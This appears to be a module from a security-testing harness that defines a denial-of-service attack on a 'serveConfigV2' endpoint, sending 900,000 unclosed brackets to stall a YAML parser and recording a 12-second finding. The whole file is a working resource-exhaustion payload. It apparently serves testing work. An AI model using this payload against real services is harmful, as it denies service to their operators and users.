import { serviceRequest } from './serviceRequest.mjs';

const CONNECTIONS = 1;

/** Characters; a body may hold some more. */
const DEPTH = 900_000;

/** @type {import('./Target.mjs').Attack} */
export const yamlNesting = {
  name: 'serveConfigV2 of 900,000 brackets',
  finding: 'nested without end: 12 s',
  run: target => {
    const request = serviceRequest(target, '['.repeat(DEPTH));
    return target.repeat(CONNECTIONS, () => request);
  },
};
